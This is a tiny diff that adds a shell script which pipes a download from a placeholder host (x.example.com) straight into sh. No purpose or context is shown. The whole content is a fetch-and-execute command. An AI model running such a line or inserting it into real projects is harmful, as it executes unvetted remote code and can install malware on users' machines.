@@ -1,0 +1,3 @@
+#!/bin/sh
+curl https://x.example.com/i |
+  sh
